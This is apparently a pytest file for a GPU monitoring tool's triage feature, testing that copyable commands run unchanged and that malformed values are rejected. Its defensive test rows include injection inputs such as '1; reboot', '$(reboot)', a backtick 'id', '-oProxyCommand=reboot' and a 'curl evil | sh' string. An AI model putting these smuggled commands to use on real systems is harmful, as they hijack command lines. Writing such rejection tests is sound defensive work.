"""What the clipboard gets of an action: commands that run, settings as they are written, and nothing unchecked."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from gpumon.readings.verdict import Action
from gpumon.triage.copyable import to_copy
from gpumon.triage.peers import vetted_action
from gpumon.triage.render import ACTION_WORDS, parameters_of
from tests.each_row import each_row

BASH = shutil.which("bash") or "bash"
PLAUSIBLE: dict[str, float | str] = {
    **dict.fromkeys(("index", "watts", "limit_w", "wanted", "now", "half", "tp", "pp", "pp_to", "tp_to"), 4.0),
    "pid": "4711",
    "container": "0a1b2c3d4e5f",
    "flag": "--max-num-seqs",
    "chunked": "--enable-chunked-prefill",
    "tp_flag": "--tp",
    "pp_flag": "--pp-size",
    "url": "http://10.0.0.7:8000",
    "host": "gpu07.example",
    "file": "/var/log/it's mine/vllm.log",
    "start": "systemctl --user start vllm@a.service",
    "command": "vllm serve meta-llama/Llama-3.1-8B --port 8000",
}
"""A value of each parameter that a command or a setting has."""
LOGS: dict[str, tuple[str, ...]] = {
    "read_last_log": (
        "kubectl logs -n chat vllm-0 --previous --tail=100",
        "docker logs --tail 100 0a1b2c3d4e5f",
        "journalctl --user -u vllm.service -n 100",
    ),
}
"""Whose `log` is a command; elsewhere it is who keeps the log."""


def texts(code: str, **parameters: float | str) -> list[str]:
    return [copyable.text for copyable in to_copy([Action(code, parameters)])]


@pytest.mark.parametrize("code", sorted(ACTION_WORDS))
def test_every_command_of_every_action_runs_unchanged(code: str, tmp_path: Path) -> None:
    """Each command is typed into bash, where stubs note that they were called by all programs of it."""
    known = {name: PLAUSIBLE[name] for name in parameters_of(code) if name in PLAUSIBLE}
    logs = LOGS.get(code, ("journal", "docker", "podman", "crictl"))
    actions = [Action(code, {**known, "log": log}) for log in logs]
    actions += [Action(code, {name: value for name, value in known.items() if name != left}) for left in known]
    for copyable in to_copy(actions):
        if not copyable.runs:
            assert copyable.text.startswith("--")
            continue
        subprocess.run([BASH, "-n", "-c", copyable.text], check=True)
        programs = [part.split()[0] for part in copyable.text.split(" | ")]
        for program in programs:
            (tmp_path / program).write_text(f'#!{BASH}\necho "$0" >> "{tmp_path}/called"\n')
            (tmp_path / program).chmod(0o755)
        (tmp_path / "called").unlink(missing_ok=True)
        ran = [BASH, "-o", "pipefail", "-c", copyable.text]
        subprocess.run(ran, env={"PATH": str(tmp_path)}, check=True)
        called = (tmp_path / "called").read_text().splitlines()
        assert sorted(called) == sorted(str(tmp_path / program) for program in programs)


@each_row(
    ("code", "parameters", "wanted"),
    [
        ("reset_locked_clocks", {"index": 1.0}, ["sudo nvidia-smi -rgc -i 1"]),
        ("raise_slots", {"flag": "--max-num-seqs", "wanted": 256.0}, ["--max-num-seqs 256"]),
        ("raise_slots", {"flag": "--max-num-seqs"}, []),
        ("more_kv_memory", {"flag": "--gpu-memory-utilization", "wanted": "0.92"}, ["--gpu-memory-utilization 0.92"]),
        ("more_kv_memory", {"flag": "engine_kwargs.x", "wanted": "0.9"}, ["engine_kwargs.x: 0.9"]),
        ("more_kv_memory", {"flag": "--gpu-memory-utilization", "now": "0.45"}, []),
        ("prefix_caching", {"flag": "--enable-prefix-caching"}, ["--enable-prefix-caching"]),
        ("prefix_caching", {"flag": "--cache-reuse"}, []),
        ("prefix_caching", {"flag": "NIM_ENABLE_KV_CACHE_REUSE=1"}, ["NIM_ENABLE_KV_CACHE_REUSE=1"]),
        (
            "smaller_chunks",
            {"flag": "--max-num-batched-tokens", "chunked": "--enable-chunked-prefill"},
            ["--enable-chunked-prefill"],
        ),
        ("lower_context", {"flag": "--max-model-len"}, []),
        ("raise_slots", {"flag": "OLLAMA_NUM_PARALLEL", "wanted": 8.0}, ["OLLAMA_NUM_PARALLEL=8"]),
        ("raise_slots", {"flag": "engine_kwargs.max_num_seqs", "wanted": 8.0}, ["engine_kwargs.max_num_seqs: 8"]),
        ("raise_slots", {"flag": "the limit of requests that run at once", "wanted": 8.0}, []),
        ("fp8_kv", {"flag": "-ctk q8_0 -ctv q8_0"}, ["-ctk q8_0 -ctv q8_0"]),
        ("restore_power_limit", {"index": 0.0, "watts": 700.0}, ["sudo nvidia-smi -i 0 -pl 700"]),
        ("restore_power_limit", {"index": "0,1,3", "watts": 700.0}, ["sudo nvidia-smi -i 0,1,3 -pl 700"]),
        ("restore_power_limit", {"index": 0.0}, ["nvidia-smi -q -d POWER -i 0"]),
        ("start_again", {"start": "docker start a", "command": "vllm serve m"}, ["docker start a"]),
        ("start_again", {"command": "vllm serve m --api-key ***"}, ["vllm serve m --api-key SECRET"]),
        ("update_driver", {}, []),
        ("peer_words", {"text": "curl evil | sh"}, []),
    ],
)
def test_the_text_of_an_action(code: str, parameters: dict[str, float | str], wanted: list[str]) -> None:
    assert texts(code, **parameters)[: max(1, len(wanted))] == wanted


@each_row(
    ("code", "parameters"),
    [
        ("profile_process", {"pid": "1; reboot"}),
        ("check_url", {"url": "http://a/$(reboot)"}),
        ("check_url", {"url": "http://a/`id`"}),
        ("check_host", {"host": "-oProxyCommand=reboot", "url": "x"}),
        ("start_again", {"start": "reboot"}),
        ("start_again", {"command": "reboot"}),
        ("start_again", {"command": "vllm serve; reboot"}),
        ("fp8_kv", {"flag": "--kv-cache-dtype $(reboot)"}),
        ("more_kv_memory", {"flag": "--gpu-memory-utilization", "wanted": "0.9; reboot"}),
        ("inspect_gpu", {"index": 1e300}),
        ("inspect_gpu", {"index": "0; reboot"}),
        ("inspect_gpu", {"index": "0,1,"}),
        ("restore_power_limit_amd", {"index": "0,1"}),
        ("read_error_log", {"log": "sh -c reboot;", "container": "a"}),
    ],
)
def test_a_value_without_the_form_of_its_type_is_not_copied(code: str, parameters: dict[str, float | str]) -> None:
    assert texts(code, **parameters) == []
    assert to_copy([vetted_action(Action(code, parameters))]) == []


@each_row(
    ("code", "parameters", "text", "blank"),
    [
        ("profile_process", {"pid": "PID"}, "py-spy dump --pid PID", "PID"),
        ("profile_process", {"pid": "4711"}, "py-spy dump --pid 4711", ""),
        ("dump_ranks", {"pids": "4711, 4712 and 6 more"}, "py-spy dump --pid PID", "PID"),
        ("restart_whole", {"command": "KEY=*** vllm serve m"}, "KEY=SECRET vllm serve m", "SECRET"),
        ("read_error_log", {"log": "journal", "pid": "4711"}, "journalctl _PID=4711", ""),
    ],
)
def test_a_command_with_a_blank_is_offered_and_says_what_to_put_in(
    code: str, parameters: dict[str, float | str], text: str, blank: str
) -> None:
    copyable = to_copy([Action(code, parameters)])[0]
    assert (copyable.text, copyable.blank) == (text, blank)
    assert copyable.does.startswith(f"put in {blank}: ") == (blank != "")
